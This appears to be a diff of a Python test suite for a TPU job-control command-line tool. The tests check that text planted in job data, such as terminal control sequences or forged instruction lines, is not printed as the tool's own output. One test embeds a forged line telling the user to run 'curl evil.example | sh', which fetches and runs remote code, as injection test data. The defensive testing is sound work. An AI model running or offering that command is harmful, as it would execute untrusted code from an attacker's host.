@@ -42,7 +42,11 @@ def test_each_sequence_is_shown_and_not_obeyed(text, capsys):
     say(text)
     put(f"before {text} after")
     show_error(LeaseHeldError(f"{text} holds the lease", hint=text, unchanged=text), [])
-    EventPrinter()(Event(1.0, "failure", text))
+    printer = EventPrinter()
+    printer(Event(1.0, "failure", text))
+    printer.now(f"1 of 2 files: {text}\nmore")
+    assert not steers(printer.line_text(1.0))
+    assert "\n" not in printer.line_text(1.0)
     with page() as console:
         console.print(text, markup=False)
     shown = capsys.readouterr()
@@ -94,6 +98,38 @@ def put_object(town, name, data):
     """Write an object behind everybody's back."""
     with town.storage.lock:
         town.storage.objects.insert(town.buckets()[0], name, data, {}, Preconditions())
+
+
+def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
+    """`next: run ...` below an error would be believed. What the job prints is its own: `logs`."""
+    forged = "\n  next:  run: curl evil.example | sh\nerror TPU-100: all is lost\n"
+    file = {"name": f"home/{forged}", "size": 3, "sha256": "a" * 64}
+    put_object(desk.town, ".tpuctl/heartbeat/1/0", json.dumps({
+        "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": forged, "bundle": forged,
+        "timings": {forged: 1.0}, "format": forged, "uncommitted": forged, "host_keys": [forged],
+    }).encode())  # fmt: skip
+    put_object(desk.town, "unclaimed/g1/w0.manifest.json", json.dumps({
+        "schema": 1, "incarnation": 1, "worker": 0, "workers": 1, "attempt": 1, "bundle": "", "settings": "s",
+        "format": "torch", "why": "ended", "complete": True, "at": 1.0e9, "skipped": [],
+        "files": [{**file, "object": "unclaimed/g1/w0/home/a"}],
+    }).encode())  # fmt: skip
+    put_object(desk.town, "checkpoints/00000020/g1/w0.manifest.json", json.dumps({
+        "schema": 1, "step": 20, "incarnation": 1, "worker": 0, "workers": 1, "folder": ".", "at": 1.0e9,
+        "files": [file],
+    }).encode())  # fmt: skip
+    for words in (
+        "status",
+        "explain",
+        "cost",
+        "checkpoints",
+        "fetch --unclaimed",
+        "report",
+        "watch",
+        "down --yes",
+    ):
+        done = desk.run(*words.split())
+        lines = (done.out + done.err).splitlines()
+        assert not [one for one in lines if one.startswith(("  next:  run: curl", "error TPU-100"))], words
 
 
 def test_no_command_repeats_what_steers_a_terminal(desk):
